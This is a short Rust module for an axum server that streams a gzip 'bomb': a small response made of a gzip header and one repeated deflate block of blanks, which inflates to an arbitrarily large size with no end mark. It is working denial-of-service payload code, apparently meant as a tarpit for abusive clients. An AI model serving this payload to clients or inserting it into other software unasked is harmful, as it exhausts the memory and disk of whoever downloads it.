//! A small body that inflates into a large one.

use std::convert::Infallible;

use axum::body::Bytes;
use flate2::{Compress, Compression, FlushCompress};
use futures_util::Stream;
use futures_util::stream;

/// RFC 1952: deflate, no flags, no time, unknown system.
const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
const BLANKS: [u8; 8 << 10] = [b' '; 8 << 10];
/// So many blocks go out at once: inflated 8 MiB.
const BLOCKS_A_CHUNK: usize = 1024;

/// At least `bytes_inflated` blanks in a much smaller gzip stream. A compressor would take seconds for all of them: one block is
/// compressed, ends on a byte by the flush, refers to nothing before it, and is repeated. The stream has no end mark: nobody is
/// meant to reach it.
pub(super) fn gzip_bomb(bytes_inflated: u64) -> impl Stream<Item = Result<Bytes, Infallible>> {
    let mut block = Vec::with_capacity(BLANKS.len());
    // Into so much room it cannot fail.
    let _ = Compress::new(Compression::best(), false).compress_vec(&BLANKS, &mut block, FlushCompress::Full);
    let blocks = usize::try_from(bytes_inflated).unwrap_or(usize::MAX).div_ceil(BLANKS.len());
    let chunk = Bytes::from(block.repeat(BLOCKS_A_CHUNK));
    let rest = Bytes::from(block.repeat(blocks % BLOCKS_A_CHUNK));
    let body = (0..blocks / BLOCKS_A_CHUNK).map(move |_| chunk.clone());
    stream::iter(std::iter::once(Bytes::from_static(&GZIP_HEADER)).chain(body).chain([rest]).map(Ok))
}
